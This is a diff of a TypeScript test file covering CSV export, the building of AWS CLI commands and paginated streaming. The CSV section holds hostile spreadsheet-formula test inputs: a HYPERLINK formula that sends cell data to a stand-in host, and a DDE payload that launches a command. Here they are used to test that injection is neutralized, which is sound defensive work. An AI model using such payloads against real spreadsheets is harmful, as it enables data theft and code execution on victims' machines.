@@ -13,7 +13,10 @@ const named = { connection: { profile: 'prod', profileExplicit: true, region: 'e
 
 describe('Export: the CSV writer', () => {
   it('quotes fields as RFC 4180 says and ends every record with CRLF', () => {
-    assert.equal(csvLine(['plain', 'with,comma', 'with "quotes"', 'two\nlines', 'cr\rhere', '']), 'plain,"with,comma","with ""quotes""","two\nlines","cr\rhere",\r\n');
+    assert.equal(
+      csvLine(['plain', 'with,comma', 'with "quotes"', 'two\nlines', 'cr\rhere', '']),
+      'plain,"with,comma","with ""quotes""","two\nlines","cr\rhere",\r\n',
+    );
     const values = ['a,b', '"', 'x\r\ny', 'ü ✓', ' spaced '];
     assert.deepEqual(parseCsv(csvLine(values)), [values]);
   });
@@ -30,7 +33,7 @@ describe('Export: the CSV writer', () => {
   });
 
   it('never lets hostile text become a spreadsheet formula: text starting with = + - @ tab or CR gets a leading apostrophe', () => {
-    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
     for (const text of hostile) {
       const [[cell]] = parseCsv(csvLine([text]));
       assert.equal(cell, `'${text}`, JSON.stringify(text));
@@ -48,7 +51,7 @@ describe('Export: the CSV writer', () => {
   });
 });
 
-describe('Copy as AWS CLI Command: the services\' mappings', () => {
+describe("Copy as AWS CLI Command: the services' mappings", () => {
   it('DynamoDB: list-backups with every filter, describe-backup for a panel', () => {
     const cli = backupListCli({ table: 'Orders', backupType: 'ALL', after: '2026-01-01T00:00:00.000Z', before: '2026-02-01T00:00:00.000Z' });
     assert.equal(cli.client, 'dynamodb');
@@ -76,20 +79,30 @@ describe('Copy as AWS CLI Command: the services\' mappings', () => {
   });
 
   it('Lambda: list-durable-executions-by-function with statuses as JSON and the order flag the view sends', () => {
-    const cli = executionListCli('order-workflow', { qualifier: '$LATEST', name: 'run 1', statuses: ['RUNNING', 'FAILED'], after: '2026-01-01T00:00:00.000Z' }, true);
+    const cli = executionListCli(
+      'order-workflow',
+      { qualifier: '$LATEST', name: 'run 1', statuses: ['RUNNING', 'FAILED'], after: '2026-01-01T00:00:00.000Z' },
+      true,
+    );
     assert.equal(
       formatCliCommand(cli.command, named),
       `aws lambda list-durable-executions-by-function --function-name order-workflow --qualifier '$LATEST' --durable-execution-name 'run 1' --statuses '["RUNNING","FAILED"]' --started-after 2026-01-01T00:00:00.000Z --reverse-order --region eu-west-1 --profile prod`,
     );
-    assert.equal(formatCliCommand(executionListCli('f', {}, undefined).command, named), 'aws lambda list-durable-executions-by-function --function-name f --region eu-west-1 --profile prod');
-    assert.equal(formatCliCommand(executionListCli('f', {}, false).command, named), 'aws lambda list-durable-executions-by-function --function-name f --no-reverse-order --region eu-west-1 --profile prod');
+    assert.equal(
+      formatCliCommand(executionListCli('f', {}, undefined).command, named),
+      'aws lambda list-durable-executions-by-function --function-name f --region eu-west-1 --profile prod',
+    );
+    assert.equal(
+      formatCliCommand(executionListCli('f', {}, false).command, named),
+      'aws lambda list-durable-executions-by-function --function-name f --no-reverse-order --region eu-west-1 --profile prod',
+    );
     assert.equal(
       formatCliCommand(getExecutionCli('arn:aws:lambda:eu-west-1:123456789012:function:f:$LATEST/durable-execution/run/1'), named),
       `aws lambda get-durable-execution --durable-execution-arn 'arn:aws:lambda:eu-west-1:123456789012:function:f:$LATEST/durable-execution/run/1' --region eu-west-1 --profile prod`,
     );
   });
 
-  it('wraps an API token as the CLI\'s --starting-token (botocore: base64 of json.dumps({input_token: value}))', () => {
+  it("wraps an API token as the CLI's --starting-token (botocore: base64 of json.dumps({input_token: value}))", () => {
     // Expected values computed with Python: base64.b64encode(json.dumps({k: v}).encode()).decode()
     assert.equal(startingToken('Marker', 'AAECAwQFBgcICQ=='), 'eyJNYXJrZXIiOiAiQUFFQ0F3UUZCZ2NJQ1E9PSJ9');
     assert.equal(
@@ -121,15 +134,28 @@ describe('Export: streaming every page through the paging core', () => {
   it('hands on each page once, drops duplicates, stops at the end, and keeps no page', async () => {
     const api = pagesOf({ '': { items: ids(3), nextToken: 'a' }, a: { items: [...ids(1, 2), ...ids(2, 3)], nextToken: 'b' }, b: { items: ids(1, 5) } });
     const seen: string[][] = [];
-    const result = await streamPages({ fetcher: api.fetcher, keyOf: (i) => i.id, pageSize: 3, signal: new AbortController().signal, onPage: (items) => void seen.push(items.map((i) => i.id)) });
+    const result = await streamPages({
+      fetcher: api.fetcher,
+      keyOf: (i) => i.id,
+      pageSize: 3,
+      signal: new AbortController().signal,
+      onPage: (items) => void seen.push(items.map((i) => i.id)),
+    });
     assert.deepEqual(seen, [['i0', 'i1', 'i2'], ['i3', 'i4'], ['i5']]);
     assert.deepEqual(result, { items: 6, requests: 3 });
     assert.deepEqual(api.calls, [undefined, 'a', 'b']);
   });
 
-  it('starts at the list\'s start token and treats a token seen before as the end (a cycle)', async () => {
+  it("starts at the list's start token and treats a token seen before as the end (a cycle)", async () => {
     const api = pagesOf({ s: { items: ids(1), nextToken: 't' }, t: { items: ids(1, 1), nextToken: 's2' }, s2: { items: ids(1, 2), nextToken: 't' } });
-    const result = await streamPages({ fetcher: api.fetcher, keyOf: (i) => i.id, pageSize: 1, startToken: 's', signal: new AbortController().signal, onPage: () => undefined });
+    const result = await streamPages({
+      fetcher: api.fetcher,
+      keyOf: (i) => i.id,
+      pageSize: 1,
+      startToken: 's',
+      signal: new AbortController().signal,
+      onPage: () => undefined,
+    });
     assert.deepEqual(api.calls, ['s', 't', 's2']);
     assert.equal(result.items, 3);
   });
@@ -146,7 +172,7 @@ describe('Export: streaming every page through the paging core', () => {
     assert.equal(api.calls.length, 11);
   });
 
-  it('stops at once when cancelled, and passes a failed page\'s error on', async () => {
+  it("stops at once when cancelled, and passes a failed page's error on", async () => {
     const controller = new AbortController();
     const api = pagesOf({ '': { items: ids(2), nextToken: 'a' }, a: { items: ids(2, 2), nextToken: 'gone' } });
     const handed: string[] = [];
@@ -167,7 +193,13 @@ describe('Export: streaming every page through the paging core', () => {
     assert.deepEqual(api.calls, [undefined, 'a'], 'the request already under way is the last one');
     const written: string[] = [];
     await assert.rejects(
-      streamPages({ fetcher: api.fetcher, keyOf: (i) => i.id, pageSize: 2, signal: new AbortController().signal, onPage: (items) => void written.push(...items.map((i) => i.id)) }),
+      streamPages({
+        fetcher: api.fetcher,
+        keyOf: (i) => i.id,
+        pageSize: 2,
+        signal: new AbortController().signal,
+        onPage: (items) => void written.push(...items.map((i) => i.id)),
+      }),
       /bad token gone/,
     );
     assert.deepEqual(written, ['i0', 'i1', 'i2', 'i3']);
